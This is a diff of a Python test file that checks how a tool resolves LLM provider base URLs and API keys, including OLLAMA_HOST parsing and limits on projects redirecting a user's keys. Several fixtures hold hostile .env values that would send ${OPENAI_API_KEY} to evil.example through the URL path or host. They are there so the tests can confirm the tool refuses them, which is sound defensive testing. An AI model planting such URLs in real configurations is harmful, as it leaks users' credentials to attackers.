@@ -77,7 +77,7 @@ def test_a_project_cannot_send_the_users_key_elsewhere(files, model, named):
     assert "OPENAI_API_KEY is not sent to " in error.message
     assert named in error.message
     assert error.hint is not None
-    assert "--trust" in error.hint
+    assert error.hint == "to allow it, use `trust`"
 
 
 @pytest.mark.parametrize(
@@ -209,7 +209,7 @@ def test_a_url_cannot_carry_a_key():
         ".env": "GREEDY_BASE_URL=https://evil.example/${OPENAI_API_KEY}",
     }
     error = refusal_of(files, model="bait")
-    assert "would carry ${OPENAI_API_KEY} from your environment away" in error.message
+    assert "would send ${OPENAI_API_KEY} from your environment" in error.message
 
 
 def test_a_url_cannot_carry_a_key_in_its_host_or_through_another_name():
@@ -218,7 +218,7 @@ def test_a_url_cannot_carry_a_key_in_its_host_or_through_another_name():
         "models.toml": GREEDY.replace('api_key_env = ["OPENAI_API_KEY"]', 'key = "none"'),
         ".env": "A=${OPENAI_API_KEY}\nGREEDY_BASE_URL=https://${A}.evil.example/v1",
     }
-    assert "would carry ${OPENAI_API_KEY}" in refusal_of(files, model="bait").message
+    assert "would send ${OPENAI_API_KEY}" in refusal_of(files, model="bait").message
 
 
 def test_a_link_does_not_make_the_users_file_the_projects(clean_machine, work):
@@ -272,7 +272,7 @@ def test_a_missing_key_names_the_variables_to_set():
     with pytest.raises(ProviderError) as caught:
         endpoint_of({".env": f"OPENAI_BASE_URL={EVIL}\nOPENAI_API_KEY=  "}, {})
     assert caught.value.kind == "missing_key"
-    assert caught.value.hint == "set OPENAI_API_KEY in the environment or in .env"
+    assert caught.value.hint == "add OPENAI_API_KEY to .env, or set it in the environment"
 
 
 def test_a_key_is_stripped_of_white_space():
@@ -329,3 +329,79 @@ def test_loopback_is_what_cannot_be_anything_else(url, here):
 def test_hosts_agree_in_scheme_name_and_port(url, other, same):
     """Two URLs have the same host if nothing but their paths differ."""
     assert same_host(url, other) is same
+
+
+@pytest.mark.parametrize(
+    ("host", "url"),
+    [
+        ("example.com", "http://example.com:11434"),
+        ("example.com:80", "http://example.com:80"),
+        ("example.com/ollama", "http://example.com:11434/ollama"),
+        ("http://example.com", "http://example.com"),
+        ("https://example.com/a/b/", "https://example.com/a/b"),
+        ("127.0.0.1:1", "http://127.0.0.1:1"),
+        (":8080", "http://127.0.0.1:8080"),
+        ("0.0.0.0", "http://127.0.0.1:11434"),
+        ("0.0.0.0:1", "http://127.0.0.1:1"),
+        ("http://0.0.0.0:1/x", "http://127.0.0.1:1/x"),
+        ("10.0.0.0:1", "http://10.0.0.0:1"),
+        ("::1", "http://[::1]:11434"),
+        ("::", "http://[::1]:11434"),
+        ("[::1]", "http://[::1]:11434"),
+        ("[::1]:5", "http://[::1]:5"),
+        ("[::]:5", "http://[::1]:5"),
+        ("http://[::]", "http://[::1]"),
+        ("fe80::5", "http://[fe80::5]:11434"),
+        ("'example.com:5'", "http://example.com:5"),
+    ],
+)
+def test_a_host_of_ollama_may_lack_scheme_and_port(host, url):
+    """OLLAMA_HOST is read as Ollama reads it; an address to listen at is that of this machine."""
+    workspace = workspace_of(env={"OLLAMA_HOST": host})
+    assert workspace.destination(workspace.catalogue.providers["ollama"]).base_url == url
+
+
+def test_other_base_urls_are_taken_as_they_are():
+    """Only the slash at their end goes, and what the provider appends is added."""
+    workspace = workspace_of(
+        {
+            "models.toml": '[providers.p]\nwire = "openai"\nbase_url = "https://p.example"\nbase_url_env.append = "/v1"\n'
+        },
+        env={"P_BASE_URL": "https://q.example/", "OPENAI_BASE_URL": "example.com"},
+    )
+    destination = workspace.destination(workspace.catalogue.providers["p"])
+    assert (destination.base_url, destination.named_by) == (
+        "https://q.example/v1",
+        "P_BASE_URL in the environment",
+    )
+    with pytest.raises(SettingsError, match="OPENAI_BASE_URL in the environment"):
+        workspace.destination(workspace.catalogue.providers["openai"])
+
+
+CORP = """
+[providers.corp]
+wire = "openai"
+base_url = "https://llm.corp.example/v1"
+api_key_env = ["CORP_API_KEY"]
+[models.m]
+provider = "corp"
+"""
+
+
+def test_a_project_cannot_give_a_provider_another_providers_key():
+    """A variable that only a project names for a provider of one's own is not sent there, unless it is trusted."""
+    project = {"models.toml": '[providers.corp]\napi_key_env = ["OPENAI_API_KEY"]'}
+    error = refusal_of(project, user=CORP, model="m")
+    assert "OPENAI_API_KEY is not sent to llm.corp.example: only models.toml:2" in error.message
+    assert endpoint_of(project, user=CORP, model="m", trust=True).key.reveal() == KEY
+    files = {**project, ".env": "OPENAI_API_KEY=sk-of-the-project"}
+    assert endpoint_of(files, {}, user=CORP, model="m").key.reveal() == "sk-of-the-project"
+
+
+def test_a_project_may_name_the_keys_that_are_the_providers_own():
+    """A variable that the user's catalogue names as well is the provider's, whoever names it last."""
+    project = {"models.toml": '[providers.corp]\napi_key_env = ["CORP_API_KEY"]'}
+    assert endpoint_of(project, {"CORP_API_KEY": KEY}, user=CORP, model="m").key.reveal() == KEY
+    user = CORP.replace('"CORP_API_KEY"', '"CORP_API_KEY", "OPENAI_API_KEY"')
+    project = {"models.toml": '[providers.corp]\napi_key_env = ["OPENAI_API_KEY"]'}
+    assert endpoint_of(project, user=user, model="m").key.reveal() == KEY
